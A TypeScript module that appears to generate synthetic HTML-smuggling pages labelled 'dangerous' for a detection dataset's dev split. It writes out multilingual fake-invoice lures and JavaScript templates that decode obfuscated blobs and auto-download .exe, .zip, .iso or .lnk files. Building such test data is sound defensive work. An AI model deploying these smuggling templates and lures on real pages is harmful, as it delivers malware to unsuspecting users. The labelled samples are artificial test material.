import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import { badPlace, urlAt } from '../make/hosts/hosts.ts'
import { kitExtras, wayTo } from '../make/kits/brand-kit.ts'
import { documentOf, escaped } from '../make/pages/layout.ts'
import { programOf } from '../make/programs.ts'
import type { Language } from '../make/words/words.ts'

const DOCUMENTS: readonly (readonly [Language, string, string])[] = [
  ['en', 'Invoice', 'Your document is ready. The download will start automatically. Password: 8421'],
  ['en', 'Shared document', 'This file is protected. Please open the downloaded file to view the document.'],
  ['de', 'Rechnung', 'Ihr Dokument wird heruntergeladen. Das Passwort lautet 8421.'],
  ['fr', 'Facture', 'Votre document est en cours de téléchargement. Mot de passe : 8421'],
  ['es', 'Factura', 'Su documento se está descargando. Contraseña: 8421'],
  ['pt', 'Nota fiscal', 'Seu documento está sendo baixado. Senha: 8421'],
  ['it', 'Fattura', 'Il documento è in fase di download. Password: 8421'],
  ['ja', '請求書', 'ダウンロードが自動的に開始されます。パスワード：8421'],
]

export const htmlSmuggling: Family = {
  id: 'html_smuggling',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const [language, title, text] = chance.of(DOCUMENTS)
    const kind = chance.of(['zip', 'zip', 'iso', 'pe', 'lnk', 'zip'] as const)
    const file = `${chance.of(['Invoice', 'Scan', 'Document', 'Order'])}_${chance.digits(5)}.${kind === 'pe' ? 'exe' : kind}`
    const bytes = Buffer.concat([
      programOf(kind, chance),
      Buffer.from(chance.base64(4000 + chance.below(30_000)), 'base64'),
    ])
    const scripts = `<script>${smuggleCode(bytes, file, chance)}</script>${kitExtras(chance)}`
    const body = documentOf(
      {
        language,
        title,
        heading: title,
        main: `<p>${escaped(text)}</p>`,
        scripts,
        skeletons: ['table', 'bootstrap', 'utility', 'japanese'],
      },
      chance,
    )
    const url = urlAt(badPlace(null, chance), chance.of(['', 'doc.html', `view?f=${chance.hex(8)}`]))
    return { url, body, way: wayTo(url, chance), isHonest: false }
  },
}

function smuggleCode(bytes: Buffer, file: string, chance: Chance): string {
  const base64 = bytes.toString('base64')
  const toBytes =
    'function b(s){var r=atob(s),n=r.length,u=new Uint8Array(n);for(var i=0;i<n;i++)u[i]=r.charCodeAt(i);return u}'
  const save = (blob: string) =>
    chance.of([
      `var a=document.createElement("a");a.href=URL.createObjectURL(${blob});a.download="${file}";document.body.appendChild(a);a.click();`,
      `var x=${blob};if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveBlob(x,"${file}")}else{var l=document.createElement("a");document.body.appendChild(l);l.style="display: none";var w=window.URL.createObjectURL(x);l.href=w;l.download="${file}";l.click();window.URL.revokeObjectURL(w)}`,
      `const k=document.createElement('a');k.setAttribute('download','${file}');k.setAttribute('href',window.URL.createObjectURL(${blob}));k.dispatchEvent(new MouseEvent('click'));`,
    ])
  const key = 1 + chance.below(254)
  return chance.of([
    () => `${toBytes}var d="${base64}";${save('new Blob([b(d)],{type:"octet/stream"})')}`,
    () =>
      `${toBytes}window.onload=function(){var p=[${(base64.match(/.{1,3000}/g) ?? []).map((part) => `"${part}"`).join(',')}];${save('new Blob([b(p.join(""))],{type:"application/octet-stream"})')}}`,
    () =>
      `${toBytes}setTimeout(function(){var d="${[...base64].reverse().join('')}".split("").reverse().join("");${save('new Blob([b(d)])')}},500)`,
    () =>
      `var h="${bytes.toString('hex')}";var u=new Uint8Array(h.match(/../g).map(function(x){return parseInt(x,16)}));${save(`new File([u],"${file}")`)}`,
    () =>
      `var v=[${[...bytes.subarray(0, 8000)].map((byte) => byte ^ key).join(',')}];var u=Uint8Array.from(v,function(x){return x^${key}});${save('new Blob([u],{type:"application/zip"})')}`,
    () =>
      `var a=document.createElement("a");a.href="data:application/octet-stream;base64,${base64}";a.download="${file}";document.body.appendChild(a);a.click();`,
  ])()
}
